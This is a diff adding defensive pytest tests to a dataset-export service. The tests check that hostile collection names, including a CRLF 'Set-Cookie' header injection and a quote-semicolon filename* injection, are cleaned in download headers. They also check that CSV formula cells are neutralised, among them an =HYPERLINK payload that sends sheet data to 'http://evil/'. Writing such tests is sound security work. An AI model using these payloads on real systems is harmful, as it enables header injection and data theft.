@@ -7,6 +7,7 @@ import csv
 import io
 import json
 import tracemalloc
+import urllib.parse
 
 import pytest
 
@@ -104,3 +105,59 @@ def test_curl_d_and_curl_T_uploads_are_told_what_to_send(client, mongo_db):
         f"a dataset is 'text/csv' or 'application/json' (an array of objects), not 'none'; {CURL_ADVICE}"
     )
     assert "wine" not in mongo_db.list_collection_names()
+
+
+HOSTILE_NAMES = {
+    # a quote and ';' that, unencoded, end the filename and add a filename* of the attacker's
+    "a\"; filename*=UTF-8''evil.html; x=\"": 'filename="{db}.a___filename__UTF-8__evil.html__x__.csv"',
+    # not Latin-1: the header could not be written (a 500)
+    "数据": "filename=\"{db}.__.csv\"; filename*=UTF-8''{db}.%E6%95%B0%E6%8D%AE.csv",
+    "a\u2028b": 'filename="{db}.a_b.csv"',  # a line separator
+    "a\r\nSet-Cookie: x=1": 'filename="{db}.a__Set-Cookie__x_1.csv"',  # a header of its own
+}
+
+
+@pytest.mark.parametrize("name", list(HOSTILE_NAMES), ids=["quote-semicolon", "non-latin-1", "u2028", "crlf"])
+def test_an_export_is_saved_under_a_cleaned_name_whatever_the_collection_is_called(service, mongo_db, name):
+    """Through the real server (CherryPy writes the headers): a collection created before names
+    were checked, or by another program, is exported under a name of letters, digits and '._-',
+    as filename (ASCII) and filename* (RFC 5987, UTF-8), never as the client's own parameters."""
+    mongo_db[name].insert_one({"a": 1})
+    answer = service.get(f"/datasets/{mongo_db.name}/{urllib.parse.quote(name, safe='')}/export?format=csv")
+    assert answer.status_code == 200, answer.text
+    disposition = "attachment; " + HOSTILE_NAMES[name].format(db=mongo_db.name)
+    assert answer.headers["Content-Disposition"] == disposition
+    assert answer.headers["X-Content-Type-Options"] == "nosniff"
+    assert "Set-Cookie" not in answer.headers and answer.text == "a\r\n1\r\n"
+
+
+def test_csv_export_neutralises_formula_cells_and_jsonl_keeps_them(client, mongo_db):
+    """OWASP CSV injection: a text cell starting = + - @ TAB or CR is run by a spreadsheet as a
+    formula (=HYPERLINK(...) sends the sheet's data away); it is exported behind a single quote.
+    Numbers, text with such a character later on, and the JSONL export are unchanged."""
+    doc = {"=cmd": "x", "f": '=HYPERLINK("http://evil/?"&A2,"click")', "p": "+1", "m": "-2+3", "at": "@SUM(A1)"}
+    doc |= {"tab": "\tx", "cr": "\rx", "n": -3, "x": -1.5, "ok": "a=b", "nested": {"v": "=1+1"}}
+    mongo_db.out.insert_one(dict(doc))
+    rows = list(csv.reader(io.StringIO(client.get(f"/datasets/{mongo_db.name}/out/export").text, newline="")))
+    assert rows[0] == ["'=cmd", "f", "p", "m", "at", "tab", "cr", "n", "x", "ok", "nested.v"]
+    assert rows[1] == [
+        "x", "'" + doc["f"], "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "-3", "-1.5", "a=b", "'=1+1"
+    ]  # fmt: skip
+    jsonl = client.get(f"/datasets/{mongo_db.name}/out/export?format=jsonl").json()
+    assert {k: v for k, v in jsonl.items() if k != "_id"} == doc
+
+
+@pytest.mark.parametrize("name", ["a\u2028b", "a\nb", "a\rb", "a\tb", "a\x1bb", "a\u202eb", "a\x85b"])
+def test_a_name_with_a_control_character_is_refused_at_creation(client, mongo_db, name):
+    """A collection name with a control character breaks log lines and headers: an upload or a
+    job output refuses it naming the character; one MongoDB already holds can still be dropped."""
+    path = f"/datasets/{mongo_db.name}/{urllib.parse.quote(name, safe='')}"
+    upload = client.request("PUT", path, data=b"a\n1\n", headers={"Content-Type": "text/csv"})
+    code = f"U+{ord(name[1]):04X}"
+    assert upload.status_code == 400 and code in upload.json()["error"]["message"], upload.text
+    job = {"modelkey": "m", "inputCollection": "datasets.bank", "outputCollection": f"{mongo_db.name}.{name}"}
+    scoring = client.post("/predictall/", json=job)
+    assert scoring.status_code == 400 and code in scoring.json()["error"]["message"], scoring.text
+    assert mongo_db.list_collection_names() == []
+    mongo_db[name].insert_one({"a": 1})  # made by another program
+    assert client.request("DELETE", path).status_code == 204
